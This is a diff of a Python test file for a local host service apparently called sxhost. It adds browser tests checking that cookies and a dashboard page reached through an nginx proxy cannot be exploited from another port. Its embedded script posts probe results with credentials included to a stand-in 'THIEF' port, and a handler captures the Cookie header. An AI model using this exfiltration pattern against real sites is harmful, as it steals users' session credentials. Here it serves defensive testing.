@@ -7,6 +7,7 @@ rebinding.  What each attack got, the page writes into itself, and Chromium prin
 from __future__ import annotations
 
 import json
+import os
 import shutil
 import subprocess
 from collections.abc import Iterator
@@ -14,6 +15,7 @@ from contextlib import contextmanager
 from functools import partial
 from html import unescape
 from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+from itertools import product
 from pathlib import Path
 from queue import SimpleQueue
 from threading import Thread
@@ -22,7 +24,11 @@ from urllib.request import ProxyHandler, Request, build_opener
 
 import pytest
 
+from sxhost.keyring import token_file
+
 from .hosts import PATIENCE, Host, StartHost
+from .proxies import nginx
+from .test_strangers import NOBODY, curl
 
 CHROMIUM = shutil.which("chromium") or "chromium"
 OPTIONS = (
@@ -77,7 +83,8 @@ class Attacker(SimpleHTTPRequestHandler):
     got: SimpleQueue[dict[str, str]]
 
     def do_POST(self) -> None:
-        self.got.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
+        got = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+        self.got.put({**got, "cookie": self.headers.get("Cookie", "")})
         self.send_response(204)
         self.end_headers()
 
@@ -86,10 +93,10 @@ class Attacker(SimpleHTTPRequestHandler):
 
 
 @contextmanager
-def site(place: Path, host: Host) -> Iterator[tuple[int, SimpleQueue[dict[str, str]]]]:
+def site(place: Path, port: int) -> Iterator[tuple[int, SimpleQueue[dict[str, str]]]]:
     """Run another site whose page attacks the host; its port, and what the page got."""
     place.mkdir()
-    (place / "index.html").write_text(ATTACKS.replace("PORT", str(host.port)))
+    (place / "index.html").write_text(ATTACKS.replace("PORT", str(port)))
     got: SimpleQueue[dict[str, str]] = SimpleQueue()
     handler = type("Handler", (Attacker,), {"got": got})
     with ThreadingHTTPServer(
@@ -139,10 +146,11 @@ def test_a_page_of_another_site_gets_nothing(
     ask(f"{running_host.url}/sessions/a/register", {"title": "a secret"})
     ask(f"{running_host.url}/sessions/a/messages", {"content": "for the agent"})
     with (
-        site(tmp_path / "site", running_host) as (port, got),
+        site(tmp_path / "site", running_host.port) as (port, got),
         browsing(f"http://{name}:{port}", tmp_path / "browser"),
     ):
         answers = got.get(timeout=PATIENCE)
+    assert answers.pop("cookie") == ""
     assert len(answers) == 20
     assert {name: text for name, text in answers.items() if text not in NOTHING} == {}
     (message,) = ask(f"{running_host.url}/sessions/a/messages?peek=1")
@@ -158,14 +166,70 @@ def test_a_name_that_was_led_here_reads_nothing(running_host: Host, tmp_path: Pa
     assert "a secret" not in shown
 
 
+def link_to(host: Host, state: Path) -> str:
+    """Return the path of a link that lets a browser in."""
+    token = token_file(state).read_text(encoding="ascii").strip()
+    asked = Request(f"{host.url}/logins", b"", {"Authorization": f"Bearer {token}"})
+    with build_opener(ProxyHandler({})).open(asked, timeout=PATIENCE) as answer:
+        return str(json.loads(answer.read())["path"])
+
+
 def test_a_login_in_a_real_browser(start_host: StartHost, tmp_path: Path) -> None:
     host = start_host("--port", "0", "--require-token")
     assert host.port
-    token = (tmp_path / "state" / "token").read_text(encoding="ascii").strip()
-    asked = Request(f"{host.url}/logins", b"", {"Authorization": f"Bearer {token}"})
-    with build_opener(ProxyHandler({})).open(asked, timeout=PATIENCE) as answer:
-        path = json.loads(answer.read())["path"]
-    home = tmp_path / "browser"
+    path, home = link_to(host, tmp_path / "state"), tmp_path / "browser"
     assert "unauthorized" in browse(f"{host.url}/status", home)
     assert '"name":"sxhost"' in browse(f"{host.url}{path}", home)
     assert "unauthorized" in browse(f"{host.url}{path}", home)
+
+
+PAGE = """<!doctype html><script>
+const got = {}, told = new URLSearchParams(location.hash.slice(1)).get("page");
+if (told) { localStorage.setItem("page", told); history.replaceState(null, "", "/"); }
+const kept = localStorage.getItem("page");
+const ask = async (name, headers) => {
+  got[name] = (await fetch("/status", {headers})).status;
+};
+const listen = (name, protocols) => new Promise(done => {
+  const socket = new WebSocket(`ws://${location.host}/v1/stream?after=0`, protocols);
+  socket.onmessage = () => { got[name] = "hello"; socket.close(); done(); };
+  socket.onerror = () => { got[name] = "refused"; done(); };
+});
+(async () => {
+  await ask("page", {"Sxhost-Page": kept});
+  await ask("cookie alone", {});
+  await listen("socket", ["sxhost", `sxhost-page.${kept}`]);
+  await listen("socket alone", []);
+  const sent = {method: "POST", mode: "no-cors", credentials: "include"};
+  await fetch("http://127.0.0.1:THIEF/", {...sent, body: JSON.stringify(got)});
+})();
+</script>"""
+"""What a dashboard does behind a proxy; then it says what it got to another port."""
+
+
+def test_the_cookie_that_another_port_is_sent_is_worth_nothing(
+    start_host: StartHost, tmp_path: Path
+) -> None:
+    """Another port of the same name is the same site, so that no attribute keeps it away."""
+    host = start_host("--port", "0", "--require-token", "--allow-host", "127.0.0.1")
+    page = tmp_path / "page.html"
+    assert host.port
+    link = link_to(host, tmp_path / "state")
+    with (
+        site(tmp_path / "thief", host.port) as (thief, stolen),
+        nginx(tmp_path / "nginx", host.port, page=page) as front,
+    ):
+        page.write_text(PAGE.replace("THIEF", str(thief)))
+        with browsing(front + link, tmp_path / "browser"):
+            got = stolen.get(timeout=PATIENCE)
+        cookie = got.pop("cookie")
+        assert got == {
+            "page": 200, "cookie alone": 401, "socket": "hello", "socket alone": "refused",
+        }  # fmt: skip
+        assert cookie.startswith(f"sxhost-{host.port}=")
+        as_token = f"Authorization: Bearer {cookie.partition('=')[2]}"
+        for uid, url in product((os.getuid(), NOBODY), (front, host.url)):
+            assert curl(uid, "-H", as_token, f"{url}/status")[0] == 401
+            shown = curl(uid, "-H", f"Cookie: {cookie}", f"{url}/status")[0]
+            own = uid == os.getuid() and url == host.url
+            assert shown == (200 if own else 401)
